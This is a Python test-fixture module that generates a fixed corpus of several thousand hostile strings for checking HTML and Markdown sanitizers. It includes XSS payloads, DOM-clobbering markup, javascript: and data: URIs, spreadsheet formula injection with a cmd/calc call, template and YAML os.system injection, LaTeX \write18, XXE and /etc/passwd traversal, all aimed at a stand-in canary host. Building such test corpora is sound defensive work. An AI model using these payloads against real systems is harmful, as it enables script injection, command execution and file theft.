"""Hostile words, made from the public classes of attacks: several thousand, the same at every run.

Each of them, if it runs, calls `alert`, changes a global or asks the canary host for something. The
classes are those that the cheat sheets of OWASP and PortSwigger, the tests of DOMPurify and Ammonia
and CWE-79, 1021, 1236 and 1336 name; the strings are made here.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

CANARY = "canary.example"
RUN = "alert(1)"
_ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()
FETCH = f"//{CANARY}/x"

# What may stand before markup to leave the place that a value is written into.
BREAKS = (
    *("", '">', "'>", "'\">", '" ', "' ", "`>", "-->", "]]>", "*/", "}}", "</p>", "</div>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>"),
    *("</math>", "</select>", "</a>", "</code>", "</pre>", "</h1>", "</article>", "</main>"),
    *("</body>", "</html>", "</table>", "</details>", "</summary>", "</li></ul>", '\\">', "%22>"),
)
TAGS = (
    "img",
    "svg",
    "body",
    "input",
    "video",
    "details",
    "a",
    "p",
    "x",
    "math",
    "iframe",
    "object",
)
EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationstart"),
    *("onpointerenter", "onbeforetoggle", "onscrollend", "OnErRoR", "on\u0131error"),
)
SPACES = (" ", "/", "\t", "\n", "\f", "\r", " / ", "/\u00a0")
MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script>",
    f"<script src={FETCH}.js></script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}//",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f'<img src="{FETCH}.png">',
    f"<img srcset='{FETCH}.png 1x'>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>{RUN}</svg>#x'>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<svg><image href={FETCH}.svg /></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<style>@import '{FETCH}.css';</style>",
    f"<style>body{{background:url({FETCH}.png);display:none}}</style>",
    f"<link rel=stylesheet href={FETCH}.css>",
    f"<link rel=preload as=image href={FETCH}.png>",
    f"<link rel=prefetch href={FETCH}>",
    f"<p style='background:url({FETCH}.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:999999;background:#fff'>x</p>",
    f"<p style='animation-name:x' onanimationstart={RUN}>x</p>",
    f"<base href={FETCH}/>",
    f"<meta http-equiv=refresh content='0;url=https:{FETCH}'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={FETCH}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<applet code={RUN}></applet>",
    f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form action=https:{FETCH}><input name=q autofocus></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src={FETCH}.png>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={FETCH}.png src={FETCH}.mp4 autoplay></video>",
    f"<audio src={FETCH}.mp3 autoplay>",
    f"<track src={FETCH}.vtt>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN}>",
    f"<body background={FETCH}.png>",
    f"<table background={FETCH}.png><tr><td>x",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java&Tab;script&colon;{RUN}'>x</a>",
    f"<a ping={FETCH} href=#>x</a>",
    f"<a href='data:text/html;base64,{_ENCODED}'>x</a>",
    f"<a target=x onclick={RUN} href=#>x</a>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY e '<img src=x onerror={RUN}>'>]>&e;",
    f"<%<img src=x onerror={RUN}>%>",
    f"<\x00script>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cimg%20src=x%20onerror={RUN}%3E",
    f"<script>{RUN}<!--<script></script>",
    "<!--<script>",
    "</script><!--<script>",
    "<!--",
    "<",
    "</",
    "<!",
    "<?",
    "&",
    "&#",
    "&#x110000;&#0;&#xd800;",
)
# What scripts of a page ask for by name, clobbered by elements of that name.
GLOBALS = (
    *("__config", "__search", "__drawer", "__palette", "__md_scope", "__md_get", "__toc", "__tabs"),
    *("location", "document", "fetch", "self", "top", "alert", "dataLayer", "MathJax", "mermaid"),
    *("document$", "location$", "target$", "base", "forms", "body", "head", "getElementById"),
    *("postil", "attributes", "children", "nodeName", "parentNode", "constructor", "__proto__"),
)
CLOBBERING = tuple(
    form.format(name)
    for name, form in product(
        GLOBALS,
        (
            '<a id="{0}"></a><a id="{0}" name="x" href="//canary.example/c"></a>',
            '<img name="{0}" src="">',
            '<form id="{0}"><input name="x"></form>',
            '<p data-md-component="{0}" class="md-{0}">x</p>',
        ),
    )
)
_JS = ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "java\rscript", "\x01javascript")
SCHEMES = (
    *(f"{scheme}:{RUN}" for scheme in _JS),
    *(f" {scheme}:{RUN}" for scheme in _JS),
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"javascript:%61lert(1)//https://{CANARY}",
    f"javascript://{CANARY}/%0A{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload={RUN}>",
    f"\u200bjavascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"vbscript:msgbox({RUN})",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    f"blob:https://{CANARY}/x",
    "file:///etc/passwd",
    f"filesystem:https://{CANARY}/x",
    f"//{CANARY}/x.png",
    f"/\\{CANARY}/x.png",
    f"\\\\{CANARY}\\x.png",
    f"/\t/{CANARY}/x.png",
    f"https:{CANARY}/x.png",
    f"https:///{CANARY}/x.png",
    f"https://{CANARY}@127.0.0.1/x.png",
    f"https://user:password@{CANARY}/",
    f'https://{CANARY}/"onmouseover="{RUN}',
    f"https://{CANARY}/'onmouseover='{RUN}",
    f"https://{CANARY}/><img src=x onerror={RUN}>",
    f"https://{CANARY}/?a=1&quot;&gt;&lt;script&gt;",
    f"https://{CANARY}/\r\nSet-Cookie:a=b",
    "https://xn--pypal-4ve.example/",
    "https://\u0440\u0430ypal.example/",
    f"mailto:a@{CANARY}?subject=x&body=<script>{RUN}</script>",
    f"https://{CANARY}/` onerror={RUN}",
    f"https://{CANARY}/%22%3E%3Cscript%3E",
)
MARKDOWN = (
    *(
        form.format(address)
        for address, form in product(
            (one for one in SCHEMES if "\n" not in one and "\r" not in one),
            ("[x]({})", "![x]({})", "[x](<{}>)", "<{}>", "[x][r]\n\n[r]: {}", '[x]({} "t")'),
        )
    ),
    f'[x](https://e.example "a\\"onmouseover={RUN} b=\\"")',
    f'![x"onerror="{RUN}](x.png)',
    f"![x](x.png \"a' onerror='{RUN}\")",
    f"[<img src=x onerror={RUN}>](https://e.example)",
    f"[x](https://e.example)<!-- <img src=x onerror={RUN}> -->",
    f"`<img src=x onerror={RUN}>`",
    f"``` <img src=x onerror={RUN}>\nx\n```",
    f'```{{.mermaid onclick="{RUN}"}}\ngraph LR\n```',
    f"```mermaid\ngraph LR\nA[<img src=x onerror={RUN}>]\n```",
    f"~~~ html\n<script>{RUN}</script>\n~~~",
    f"    <script>{RUN}</script>",
    f"# x {{#__config onclick={RUN}}}",
    f"x\n{{: onclick={RUN} style=position:fixed class=md-overlay id=__search }}",
    f"*x*{{: onmouseover={RUN} }}",
    f"[x](https://e.example){{: href=javascript:{RUN} target=_top }}",
    f"![x](x.png){{: src={FETCH}.png onerror={RUN} }}",
    f"x{{: data-toc-label='<script>{RUN}</script>' }}",
    f"# x {{: data-toc-label='<img src=x onerror={RUN}>' }}",
    f"# x <img src=x onerror={RUN}>",
    f"# `<img src=x onerror={RUN}>`",
    f"*[x]: <img src=x onerror={RUN}>\n\nx",
    f"[^1]: <script>{RUN}</script>\n\nx[^1]",
    f"[^<img src=x onerror={RUN}>]: x",
    f'!!! note "<img src=x onerror={RUN}>"\n    x',
    f"!!! note-{RUN}' onclick='{RUN}\n    x",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | x |",
    f"<div markdown=1 onclick={RUN}>\n\n<script>{RUN}</script>\n\n</div>",
    f"<div markdown>\n*x*\n</div><script>{RUN}</script>",
    f"<p markdown=1><script>{RUN}</script></p>",
    f"<script>\n\n{RUN}\n\n</script>",
    f"\\<img src=x onerror={RUN}\\>",
    f"<img src=x\nonerror={RUN}\n>",
    f"<a\u00a0href=javascript:{RUN}>x</a>",
    "</div></div></article></main></div>",
    "<div><div><div>",
    "<table><tr><td>",
    "<ul><li><p><b><i>",
    "<details open><summary>x",
    "<h1>another title</h1>",
    "<main><nav>x</nav></main>",
    "<aside role=banner>x</aside>",
    "<p hidden>x",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<style>",
    "<xmp>",
    "<svg><desc>",
    "wzxhzdk:0",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "<!-- postil: changes -->",
    "<!-- postil: note a/b -->",
    "<!-- material/tags -->",
)
DATA = (
    *('"}</script><script>alert(1)</script>', "</script >x", "<\\/script>", '",{"@id":"x"},"'),
    *('\\"}];alert(1)//', "\u2028alert(1)\u2029", "]]><x/><![CDATA[", "<![CDATA[x", "&xxe;"),
    *("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "--><entry/><!--", "\x0b\x0c", "\x85\x9f\ufffe"),
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1"),
    *(
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        '=cmd|" /C calc"!A0',
        '=HYPERLINK("//canary.example")',
        ";=1",
    ),
    *('"=1+1', "'=1+1", ",=1+1", "|=1+1", "\u200b=1+1", "\u00a0=1+1", "\ufeff=1+1", "%=1+1"),
    *("}, title = {x}, url = {javascript:alert(1)}", "@comment{x}", "\\input{/etc/passwd}", "}}}"),
    *("{{{", "\\write18{id}", "$\\href{javascript:alert(1)}{x}$", "\\\\", "\\", "{\\x"),
    *(
        "- a\n- b",
        "key: value",
        "!!python/object:os.system 'id'",
        "&a [*a]",
        "? x\n: y",
        "...\n---",
    ),
    *(
        "{{ config }}",
        "{{ 7*7 }}",
        "{% raw %}",
        "{% include 'x' %}",
        "{{ ''.__class__ }}",
        "${7*7}",
    ),
    *(
        "{# x #}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        "%s%s%n",
        "{0}",
    ),
    *("{title}", "{count}", "{date}", "{}", "__import__('os')", "../../../etc/passwd", "..\\..\\x"),
    *("CON", "a/b", "a%2fb", "a%00b", "a\u202ecod.exe", "\u2066\u2067\u2068", "\u202d\u202e"),
    *(
        "\u200b\u200c\u200d\u2060",
        "\U000e0041\U000e0042",
        "\ue000\ue001\ue002\ue003",
        "\ue010\ue011",
    ),
    *(
        "::error::x",
        "::set-output name=a::b",
        "##[error]x",
        "%0A::error::x",
        "\x1b[31mx",
        "\x1b]8;;x",
    ),
    *(
        "@everyone",
        "#1",
        "`x`",
        "```\nx\n```",
        "~~~",
        "<details>",
        "|a|b|",
        "\\|",
        "[x]: javascript:x",
    ),
    *("constructor", "__proto__", "toString", "hasOwnProperty", "NaN", "Infinity", "null", "-0"),
    *("\u0130\u0131\u017f\u212a", "\ufb01\u1e9e", "\u0340\u0341", "e\u0301" * 3, "\u0e49" * 40),
)


def _classes() -> Iterator[tuple[str, list[str]]]:
    yield "markup", list(MARKUP)
    yield (
        "markup after a break",
        [f"{before}{markup}" for before, markup in product(BREAKS[1:], MARKUP[:40:2])],
    )
    yield (
        "events",
        [
            f"<{tag}{space}{event}={quote}{RUN}{quote}{space}src=x autofocus tabindex=0>"
            for tag, event, space, quote in product(TAGS, EVENTS, SPACES, ("", '"'))
        ],
    )
    yield (
        "attributes",
        [
            f"{quote}{space}{event}={quote}{RUN}{quote} x={quote}"
            for quote, space, event in product(('"', "'", "`", ""), SPACES, EVENTS)
        ],
    )
    yield "clobbering", list(CLOBBERING)
    yield "addresses", list(SCHEMES)
    yield "Markdown", list(MARKDOWN)
    yield "data", list(DATA)


CLASSES: dict[str, list[str]] = dict(_classes())


def corpus() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(one for group in CLASSES.values() for one in group))


def share(count: int) -> list[str]:
    """About `count` of them, from every class, those in a class evenly far from each other."""
    each = count // len(CLASSES)
    taken = (group[:: max(1, len(group) // each)][:each] for group in CLASSES.values())
    return list(dict.fromkeys(one for group in taken for one in group))
